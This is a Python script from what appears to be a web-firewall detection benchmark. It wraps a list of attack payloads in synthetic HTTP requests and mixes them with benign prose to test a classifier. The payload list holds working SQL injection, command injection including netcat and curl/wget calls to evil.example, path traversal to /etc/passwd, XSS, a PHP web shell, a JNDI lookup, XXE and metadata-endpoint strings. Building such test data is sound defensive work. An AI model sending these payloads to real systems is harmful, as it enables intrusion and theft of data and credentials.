"""Payloads by hand, bare and beside ordinary words, as requests: what a verdict as a whole is judged by.

    python3 -m wafml.beside CONTENT BESIDE.jsonl

Then `tests/Benchmarks -- detection scores FOLDS SCORES.tsv BESIDE.jsonl`. Sources say family, carrier and where the words stand. The words are of held-out
packages. `seam`: without white space between.
"""

import json
import random
import sys
from pathlib import Path
from urllib.parse import quote, quote_plus

from . import content

PAYLOADS = {
    "sqli": ["' or 1=1-- ", "x' union select login,password from users-- ", "1 union select 1,2,version()", "' and (select count(*) from users)>0-- ", "1 or 1=1",
             "x'||(select password from users limit 1)||'", "1;drop table users", "' or 'a'='a", "1' and sleep(5)-- ", "(select*from(select(sleep(5)))a)",
             "1 and extractvalue(1,concat(0x7e,(select user())))", "' union all select null,null,table_name from information_schema.tables#", "1' order by 9-- ",
             "admin'-- ", "1/**/or/**/1=1", "'||1=1#", "' or exists(select 1 from users)-- ", "9 or length(user())>3", "-1 union/**/select/**/null,@@version",
             "' having 1=1-- "],
    "cmdi": [";id", "|id", "$(id)", "`id`", "; cat /etc/passwd", "&& whoami", "| nc 10.0.0.1 4444", "; sleep 5", "`cat /etc/passwd`", "$(curl http://evil.example/x)",
             "||ls -la", "&id&", "\nid", "; ls", "|cat /etc/passwd", "; wget http://evil.example/a -O /tmp/a", "& ping -c 5 127.0.0.1 &", "; uname -a", "';id;'",
             "\";id;\"", "|| id", "; echo 123|sh", "$(cat /etc/hosts)"],
    "path": ["../../../etc/passwd", "../../../../windows/win.ini", "/etc/passwd", "....//....//etc/passwd", "..%2f..%2f..%2fetc/passwd", "file:///etc/passwd",
             "..\\..\\..\\boot.ini", "/proc/self/environ", "php://filter/convert.base64-encode/resource=index.php"],
    "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(document.cookie)",
            "' onmouseover=alert(1) x='", "<iframe src=javascript:alert(1)>", "';alert(1);//"],
    "other": ["{{7*7}}", "${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
              "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "http://169.254.169.254/latest/meta-data/", "*)(uid=*))(|(uid=*",
              "() { :; }; /bin/id", "__import__('os').popen('id').read()"],
}
CARRIERS = ("query", "form", "json", "cookie", "header")
LENGTHS = (20, 60, 160, 600, 1_300)
HEADERS = {"Host": "shop.example", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "Accept": "*/*"}
NAMES = ("q", "name", "comment", "text", "title")


def carried(value: str, carrier: str, name: str) -> dict:
    """A request that carries a value."""
    request = {"method": "GET", "uri": "/items?page=1", "headers": dict(HEADERS), "body": None}
    if carrier == "query":
        request["uri"] = f"/items?{name}={quote(value, safe='')}&page=2"
    elif carrier == "cookie":
        request["headers"]["Cookie"] = f"{name}={quote(value, safe='')}"
    elif carrier == "header":
        request["headers"]["X-" + name.title()] = value.replace("\n", " ")
    else:
        kind = "application/json" if carrier == "json" else "application/x-www-form-urlencoded"
        request.update(method="POST", uri="/items", body=json.dumps({name: value, "page": 2}) if carrier == "json" else f"{name}={quote_plus(value)}&lang=en")
        request["headers"]["Content-Type"] = kind
    return request


def requests(words: "list[str]", seed: int = 5) -> "list[dict]":
    rng = random.Random(seed)

    def text(most: int = LENGTHS[-1]) -> str:
        length, at, out = rng.choice([n for n in LENGTHS if n <= most]), rng.randrange(len(words) - 400), ""
        while len(out) < length:
            out, at = f"{out}{words[at]} ", at + 1
        return out.strip()

    places = {"bare": lambda p: p, "before": lambda p: f"{text()} {p}", "behind": lambda p: f"{p} {text()}", "both": lambda p: f"{text(600)} {p} {text(600)}",
              "seam": lambda p: text(160) + p + text(160)}
    return [{**carried(place(payload), carrier, rng.choice(NAMES)), "label": 1, "attack": family, "source": f"{family} {carrier} {where}"}
            for family, payloads in PAYLOADS.items() for payload in payloads for carrier in CARRIERS for where, place in places.items()]


def words_of(files: "list[content.File]") -> "list[str]":
    """Plain words of held-out prose, in their order."""
    found = [f.data[1_000:3_000].decode("utf-8", "replace") for f in files if f.held_out and f.kind == "prose" and len(f.data) > 3_000]
    return [word for text in found[:200] for word in text.split() if word.isascii() and word.isalpha()]


if __name__ == "__main__":
    rows = requests(words_of(content.read(Path(sys.argv[1]))))
    Path(sys.argv[2]).write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
